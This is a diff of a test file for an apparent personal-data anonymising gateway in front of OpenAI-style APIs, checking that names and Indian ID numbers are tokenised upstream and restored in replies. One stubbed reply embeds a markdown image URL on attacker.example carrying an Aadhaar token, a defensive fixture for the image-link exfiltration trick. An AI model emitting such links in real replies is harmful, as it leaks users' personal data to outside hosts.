@@ -4,37 +4,17 @@
  * streams split inside tokens, tool-call argument fragments, structured output, the Responses API,
  * embeddings, sessions, concurrency and failures.
  */
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { createEngine } from '../../src/engine.js';
 import { detect } from '../../src/resolve/detect.js';
-import { createGateway, type Gateway, type GatewayEvent, type RequestEvent } from '../../src/gateway/index.js';
-import { client, expectNoLabelledValue, PII, PROMPT, serveGateway, type Served } from './helpers.js';
-import { chatCompletion, chatStream, cut, responsesStream, sse, Stub, tokensIn } from './stub.js';
+import { createGateway, type GatewayEvent, type RequestEvent } from '../../src/gateway/index.js';
+import { client, expectNoLabelledValue, PII, PROMPT, serveGateway, useStubGateway } from './helpers.js';
+import { chatCompletion, chatStream, cut, responsesStream, sse, tokensIn } from './stub.js';
 
-let stub: Stub;
-let gw: Gateway;
-let served: Served;
 const events: GatewayEvent[] = [];
+const h = useStubGateway({ upstreamKey: 'sk-upstream-secret', audit: (e) => void events.push(e), spikes: false });
 
-beforeAll(async () => {
-  stub = await new Stub().start();
-  gw = createGateway({ upstream: `${stub.url}/v1`, upstreamKey: 'sk-upstream-secret', audit: (e) => void events.push(e), spikes: false });
-  served = await serveGateway(gw);
-});
-
-afterAll(async () => {
-  await served?.close();
-  await gw?.close();
-  await stub?.close();
-});
-
-afterEach(() => {
-  const bodies = stub.allBodies();
-  stub.requests.length = 0;
-  expectNoLabelledValue(bodies);
-});
-
-const api = () => client(`${served.url}/v1`);
+const api = () => client(`${h.served.url}/v1`);
 const lastEvent = (): RequestEvent => events.filter((e): e is RequestEvent => e.op === 'request').at(-1)!;
 
 /** The stub's "model": the tokens it was sent, in the order of first appearance in the last user text. */
@@ -46,7 +26,7 @@ function userTokens(body: any): string[] {
 
 describe('chat completions, whole replies', () => {
   it('sends tokens upstream, with the upstream key and the copy instruction, and gives the client its values back', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [person, aadhaar, pan] = userTokens(r.json);
       return { kind: 'json', body: chatCompletion({ content: `Dear ${person}, we have Aadhaar ${aadhaar} and PAN ${pan}.` }) };
     };
@@ -55,7 +35,7 @@ describe('chat completions, whole replies', () => {
       { headers: { 'x-kavach-session': 'letter-1', 'x-kavach-purpose': 'loan-letter' } },
     );
     expect(res.choices[0]!.message.content).toBe(`Dear ${PII.name}, we have Aadhaar ${PII.aadhaar} and PAN ${PII.pan}.`);
-    const up = stub.requests[0]!;
+    const up = h.stub.requests[0]!;
     expect(up.path).toBe('/v1/chat/completions');
     expect(up.headers.authorization).toBe('Bearer sk-upstream-secret');
     expect(up.headers['x-kavach-session']).toBeUndefined();
@@ -68,26 +48,26 @@ describe('chat completions, whole replies', () => {
   });
 
   it('decompresses a gzip reply before restoring it and never forwards the client’s accept-encoding', async () => {
-    stub.respond = (r) => ({ kind: 'json', gzip: true, body: chatCompletion({ content: `Hi ${userTokens(r.json)[0]}` }) });
-    const res = await fetch(`${served.url}/v1/chat/completions`, {
+    h.stub.respond = (r) => ({ kind: 'json', gzip: true, body: chatCompletion({ content: `Hi ${userTokens(r.json)[0]}` }) });
+    const res = await fetch(`${h.served.url}/v1/chat/completions`, {
       method: 'POST',
       headers: { 'content-type': 'application/json', 'accept-encoding': 'br' },
       body: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: PROMPT }] }),
     });
     expect(res.headers.get('content-encoding')).toBeNull();
     expect(((await res.json()) as any).choices[0].message.content).toBe(`Hi ${PII.name}`);
-    expect(stub.requests[0]!.headers['accept-encoding']).not.toBe('br');
+    expect(h.stub.requests[0]!.headers['accept-encoding']).not.toBe('br');
     expect(res.headers.get('x-request-id')).toBe('req_stub');
   });
 
   it('adds no instruction when nothing was replaced', async () => {
-    stub.respond = () => ({ kind: 'json', body: chatCompletion({ content: 'Hello.' }) });
+    h.stub.respond = () => ({ kind: 'json', body: chatCompletion({ content: 'Hello.' }) });
     await api().chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'What is a loan letter?' }] });
-    expect(stub.requests[0]!.json.messages).toEqual([{ role: 'user', content: 'What is a loan letter?' }]);
+    expect(h.stub.requests[0]!.json.messages).toEqual([{ role: 'user', content: 'What is a loan letter?' }]);
   });
 
   it('anonymises text parts, tool results, refusals and the arguments of earlier tool calls; leaves tool definitions alone', async () => {
-    stub.respond = () => ({ kind: 'json', body: chatCompletion({ content: 'ok' }) });
+    h.stub.respond = () => ({ kind: 'json', body: chatCompletion({ content: 'ok' }) });
     const tools = [{ type: 'function' as const, function: { name: 'lookup_customer', description: 'Find records like Sunita Rao by name', parameters: { type: 'object', properties: { name: { type: 'string', description: 'e.g. Sunita Rao' } } } } }];
     await api().chat.completions.create({
       model: 'gpt-4o-mini',
@@ -100,7 +80,7 @@ describe('chat completions, whole replies', () => {
         { role: 'assistant', content: null, refusal: `I cannot share ${PII.email}` },
       ],
     });
-    const m = stub.requests[0]!.json.messages;
+    const m = h.stub.requests[0]!.json.messages;
     expect(m[0].content[0].text).toBe('The customer is <PERSON_1>.');
     expect(m[0].content[1].text).toMatch(/^Some values/);
     expect(m[1].content[0].text).toBe('Look up PAN <PAN_1>');
@@ -109,7 +89,7 @@ describe('chat completions, whole replies', () => {
     expect(m[3].content).toBe('Found: <PERSON_1>, mobile <PHONE_1>');
     expect(m[4].refusal).toBe('I cannot share <EMAIL_1>');
     // Tool definitions and schemas are not touched (their description text included).
-    expect(stub.requests[0]!.json.tools).toEqual(tools);
+    expect(h.stub.requests[0]!.json.tools).toEqual(tools);
   });
 
   it('restores tool-call arguments as JSON, escaping what needs escaping', async () => {
@@ -121,17 +101,17 @@ describe('chat completions, whole replies', () => {
         return [...detect(t), ...(i >= 0 ? [{ type: 'PERSON', start: i, end: i + odd.length, text: odd, score: 1, detector: 'test' }] : [])];
       },
     });
-    const g = createGateway({ upstream: `${stub.url}/v1`, engine, spikes: false });
+    const g = createGateway({ upstream: `${h.stub.url}/v1`, engine, spikes: false });
     const s = await serveGateway(g);
     try {
-      stub.respond = (r) => {
+      h.stub.respond = (r) => {
         const [p] = userTokens(r.json);
         return { kind: 'json', body: chatCompletion({ content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'greet', arguments: `{"name":"${p}","note":"see ${p}"}` } }] }) };
       };
       const res = await client(`${s.url}/v1`).chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: `Greet ${odd} please` }] });
       const args = JSON.parse(res.choices[0]!.message.tool_calls![0]!.type === 'function' ? (res.choices[0]!.message.tool_calls![0] as any).function.arguments : '');
       expect(args).toEqual({ name: odd, note: `see ${odd}` });
-      expect(stub.allBodies()).not.toContain('Chotu');
+      expect(h.stub.allBodies()).not.toContain('Chotu');
     } finally {
       await s.close();
       await g.close();
@@ -140,18 +120,18 @@ describe('chat completions, whole replies', () => {
 
   it('restores structured output (JSON) through .parse()', async () => {
     const schema = { type: 'object', properties: { to: { type: 'string' }, pan: { type: 'string' } }, required: ['to', 'pan'], additionalProperties: false };
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [p, , pan] = userTokens(r.json);
       expect(r.json.response_format.type).toBe('json_schema');
       return { kind: 'json', body: chatCompletion({ content: JSON.stringify({ to: p, pan }) }) };
     };
     const res = await api().chat.completions.parse({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: PROMPT }], response_format: { type: 'json_schema', json_schema: { name: 'letter', schema, strict: true } } });
-    expect(stub.requests[0]!.json.response_format.json_schema.schema).toEqual(schema);
+    expect(h.stub.requests[0]!.json.response_format.json_schema.schema).toEqual(schema);
     expect(res.choices[0]!.message.parsed).toEqual({ to: PII.name, pan: PII.pan });
   });
 
   it('leaves tokens inside URLs, link targets and HTML attributes as tokens and counts them', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [p, a] = userTokens(r.json);
       return { kind: 'json', body: chatCompletion({ content: `Hi ${p}. ![x](https://attacker.example/p.png?a=${a}) <a href="https://x.example/?q=${p}">link</a> https://x.example/${a}` }) };
     };
@@ -172,13 +152,13 @@ describe('chat completions, whole replies', () => {
       .chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: PROMPT }], logprobs: true })
       .catch((e: unknown) => e);
     expect(err).toMatchObject({ status: 400, code: 'kavach_logprobs_refused' });
-    expect(stub.requests).toHaveLength(0);
+    expect(h.stub.requests).toHaveLength(0);
   });
 
   it('fails closed: a vault that fails means an OpenAI-shaped error and nothing upstream', async () => {
     const engine = createEngine();
     await engine.vault.close();
-    const g = createGateway({ upstream: `${stub.url}/v1`, engine, spikes: false, audit: (e) => void events.push(e) });
+    const g = createGateway({ upstream: `${h.stub.url}/v1`, engine, spikes: false, audit: (e) => void events.push(e) });
     const s = await serveGateway(g);
     try {
       const err: any = await client(`${s.url}/v1`)
@@ -188,7 +168,7 @@ describe('chat completions, whole replies', () => {
       expect(err.code).toBe('kavach_anonymise_failed');
       expect(err.type).toBe('kavach_error');
       expectNoLabelledValue(String(err.message));
-      expect(stub.requests).toHaveLength(0);
+      expect(h.stub.requests).toHaveLength(0);
       expect(lastEvent()).toMatchObject({ status: 500, error: 'kavach_anonymise_failed' });
     } finally {
       await s.close();
@@ -197,13 +177,13 @@ describe('chat completions, whole replies', () => {
   });
 
   it('answers an unknown route with 404 and passes /v1/models through', async () => {
-    const r = await fetch(`${served.url}/v1/files`, { method: 'POST', body: PROMPT });
+    const r = await fetch(`${h.served.url}/v1/files`, { method: 'POST', body: PROMPT });
     expect(r.status).toBe(404);
     expect(((await r.json()) as any).error.code).toBe('unknown_route');
-    stub.respond = () => ({ kind: 'json', body: { object: 'list', data: [{ id: 'gpt-4o-mini', object: 'model' }] } });
+    h.stub.respond = () => ({ kind: 'json', body: { object: 'list', data: [{ id: 'gpt-4o-mini', object: 'model' }] } });
     const models = await api().models.list();
     expect(models.data.map((m) => m.id)).toEqual(['gpt-4o-mini']);
-    expect((await fetch(`${served.url}/healthz`)).status).toBe(200);
+    expect((await fetch(`${h.served.url}/healthz`)).status).toBe(200);
   });
 });
 
@@ -211,7 +191,7 @@ describe('chat completions, streams', () => {
   it('restores tokens split across chunks and streams without holding the reply back', async () => {
     let release!: () => void;
     const gate = new Promise<void>((r) => (release = r));
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [p, a, pan] = userTokens(r.json);
       const head = cut(`Dear ${p}, thank you. `, 3);
       const tail = cut(`Your Aadhaar ${a} and PAN ${pan} are on file.`, 3);
@@ -231,12 +211,12 @@ describe('chat completions, streams', () => {
     expect(text).toBe(`Dear ${PII.name}, thank you. Your Aadhaar ${PII.aadhaar} and PAN ${PII.pan} are on file.`);
     expect(chunks).toBeGreaterThan(10);
     // The client did not ask for usage: the chunk we asked for is not passed on, but counted.
-    expect(stub.requests[0]!.json.stream_options).toEqual({ include_usage: true });
+    expect(h.stub.requests[0]!.json.stream_options).toEqual({ include_usage: true });
     expect(lastEvent()).toMatchObject({ stream: true, restored: 3, usage: { total: 70 } });
   });
 
   it('passes the usage chunk when the client asked for it', async () => {
-    stub.respond = (r) => ({ kind: 'sse', pieces: chatStream({ content: cut(`Hi ${userTokens(r.json)[0]}`, 4) }) });
+    h.stub.respond = (r) => ({ kind: 'sse', pieces: chatStream({ content: cut(`Hi ${userTokens(r.json)[0]}`, 4) }) });
     const stream = await api().chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: PROMPT }], stream: true, stream_options: { include_usage: true } });
     let usage: unknown;
     let text = '';
@@ -249,7 +229,7 @@ describe('chat completions, streams', () => {
   });
 
   it('restores tool-call argument fragments per call, and the arguments parse as JSON with the originals', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [p, a, pan] = userTokens(r.json);
       return {
         kind: 'sse',
@@ -269,7 +249,7 @@ describe('chat completions, streams', () => {
   });
 
   it('flushes a token held at the end when the stream has no finish_reason before [DONE]', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const p = userTokens(r.json)[0]!;
       const head = { id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm' };
       return { kind: 'sse', pieces: [sse({ ...head, choices: [{ index: 0, delta: { content: 'Hi ' }, finish_reason: null }] }), sse({ ...head, choices: [{ index: 0, delta: { content: p }, finish_reason: null }] }), 'data: [DONE]\n\n'] };
@@ -281,7 +261,7 @@ describe('chat completions, streams', () => {
   });
 
   it('passes an error chunk on: the client sees the error', async () => {
-    stub.respond = () => ({ kind: 'sse', pieces: [sse({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { content: 'Hel' }, finish_reason: null }] }), sse({ error: { message: 'overloaded', type: 'server_error' } })] });
+    h.stub.respond = () => ({ kind: 'sse', pieces: [sse({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { content: 'Hel' }, finish_reason: null }] }), sse({ error: { message: 'overloaded', type: 'server_error' } })] });
     const stream = await api().chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: PROMPT }], stream: true });
     const err = await (async () => {
       for await (const _ of stream) void _;
@@ -290,7 +270,7 @@ describe('chat completions, streams', () => {
   });
 
   it('a connection dropped mid-stream fails the client request (never a silently short reply)', async () => {
-    stub.respond = (r) => ({ kind: 'sse', pieces: chatStream({ content: cut(`Dear ${userTokens(r.json)[0]}, more follows`, 3) }).slice(0, 6), drop: true });
+    h.stub.respond = (r) => ({ kind: 'sse', pieces: chatStream({ content: cut(`Dear ${userTokens(r.json)[0]}, more follows`, 3) }).slice(0, 6), drop: true });
     const stream = await api().chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: PROMPT }], stream: true });
     let text = '';
     const err = await (async () => {
@@ -304,7 +284,7 @@ describe('chat completions, streams', () => {
 
 describe('sessions', () => {
   it('keeps one token per value across turns of a named session, echoed values included', async () => {
-    stub.respond = (r) => ({ kind: 'json', body: chatCompletion({ content: `Noted, ${userTokens(r.json)[0]}.` }) });
+    h.stub.respond = (r) => ({ kind: 'json', body: chatCompletion({ content: `Noted, ${userTokens(r.json)[0]}.` }) });
     const headers = { 'x-kavach-session': 'conv-turns' };
     const first = await api().chat.completions.create({ model: 'm', messages: [{ role: 'user', content: `I am ${PII.name}, PAN ${PII.pan}.` }] }, { headers });
     const reply = first.choices[0]!.message.content!;
@@ -313,20 +293,20 @@ describe('sessions', () => {
       { model: 'm', messages: [{ role: 'user', content: `I am ${PII.name}, PAN ${PII.pan}.` }, { role: 'assistant', content: reply }, { role: 'user', content: `My friend Priya Sharma and I (${PII.name}) need help.` }] },
       { headers },
     );
-    const second = stub.requests[1]!.json.messages;
+    const second = h.stub.requests[1]!.json.messages;
     expect(second[1].content).toBe('I am <PERSON_1>, PAN <PAN_1>.');
     expect(second[2].content).toBe('Noted, <PERSON_1>.');
     expect(second[3].content).toBe('My friend <PERSON_2> and I (<PERSON_1>) need help.');
   });
 
   it('without a session header each request is its own session, erased when done', async () => {
-    stub.respond = (r) => ({ kind: 'json', body: chatCompletion({ content: `Hi ${userTokens(r.json)[0]}` }) });
-    const before = (await gw.engine.vault.stats()).sessions;
+    h.stub.respond = (r) => ({ kind: 'json', body: chatCompletion({ content: `Hi ${userTokens(r.json)[0]}` }) });
+    const before = (await h.gw.engine.vault.stats()).sessions;
     await api().chat.completions.create({ model: 'm', messages: [{ role: 'user', content: `My friend Priya Sharma called.` }] });
     await api().chat.completions.create({ model: 'm', messages: [{ role: 'user', content: `I am ${PII.name}.` }] });
-    expect(stub.requests[0]!.json.messages.at(-1).content).toBe('My friend <PERSON_1> called.');
-    expect(stub.requests[1]!.json.messages.at(-1).content).toBe('I am <PERSON_1>.');
-    expect((await gw.engine.vault.stats()).sessions).toBe(before);
+    expect(h.stub.requests[0]!.json.messages.at(-1).content).toBe('My friend <PERSON_1> called.');
+    expect(h.stub.requests[1]!.json.messages.at(-1).content).toBe('I am <PERSON_1>.');
+    expect((await h.gw.engine.vault.stats()).sessions).toBe(before);
   });
 
   it('two conversations streamed at once never get each other’s values', async () => {
@@ -334,7 +314,7 @@ describe('sessions', () => {
     let waiting = 0;
     let both!: () => void;
     const bothArrived = new Promise<void>((r) => (both = r));
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       if (++waiting === 2) both();
       const p = userTokens(r.json)[0]!;
       const pieces: Array<string | (() => Promise<void>)> = chatStream({ content: cut(`Hello ${p}, and again ${p}.`, 2) });
@@ -351,13 +331,13 @@ describe('sessions', () => {
       }),
     );
     expect(texts).toEqual([`Hello ${people[0]}, and again ${people[0]}.`, `Hello ${people[1]}, and again ${people[1]}.`]);
-    expectNoLabelledValue(stub.allBodies(), people);
+    expectNoLabelledValue(h.stub.allBodies(), people);
   });
 });
 
 describe('responses API', () => {
   it('anonymises instructions and input items (function_call_output included) and restores the reply', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const toks = tokensIn(JSON.stringify(r.json.input));
       return {
         kind: 'json',
@@ -386,14 +366,14 @@ describe('responses API', () => {
     });
     expect(res.output_text).toBe(`Done for ${PII.name}`);
     expect(JSON.parse((res.output[1] as any).arguments)).toEqual({ who: PII.name });
-    const body = stub.requests[0]!.json;
+    const body = h.stub.requests[0]!.json;
     expect(body.instructions).toMatch(/^Help <PERSON_1>\.\n\nSome values/);
     expect(body.input[1].arguments).toBe('{"pan":"<PAN_1>"}');
     expect(body.input[2].output).toBe('Owner <PERSON_1>, phone <PHONE_1>');
   });
 
   it('restores a streamed reply: deltas, .done copies, output items and response.completed', async () => {
-    stub.respond = (r) => {
+    h.stub.respond = (r) => {
       const [p, a] = tokensIn(JSON.stringify(r.json.input));
       return { kind: 'sse', pieces: responsesStream({ text: cut(`Dear ${p}, Aadhaar ${a} noted.`, 3), call: { name: 'save', args: cut(JSON.stringify({ name: p }), 5) } }) };
     };
@@ -420,13 +400,13 @@ describe('responses API', () => {
 
 describe('embeddings', () => {
   it('anonymises the input and refuses token arrays it cannot read', async () => {
-    stub.respond = () => ({ kind: 'json', body: { object: 'list', data: [{ object: 'embedding', index: 0, embedding: [0.1, 0.2] }], model: 'e', usage: { prompt_tokens: 5, total_tokens: 5 } } });
+    h.stub.respond = () => ({ kind: 'json', body: { object: 'list', data: [{ object: 'embedding', index: 0, embedding: [0.1, 0.2] }], model: 'e', usage: { prompt_tokens: 5, total_tokens: 5 } } });
     await api().embeddings.create({ model: 'text-embedding-3-small', input: [PROMPT, `PAN ${PII.pan}`], encoding_format: 'float' });
-    expect(stub.requests[0]!.json.input[1]).toBe('PAN <PAN_1>');
+    expect(h.stub.requests[0]!.json.input[1]).toBe('PAN <PAN_1>');
     const err = await api()
       .embeddings.create({ model: 'text-embedding-3-small', input: [[1, 2, 3]] })
       .catch((e: unknown) => e);
     expect(err).toMatchObject({ status: 400, code: 'kavach_unscannable' });
-    expect(stub.requests).toHaveLength(1);
+    expect(h.stub.requests).toHaveLength(1);
   });
 });
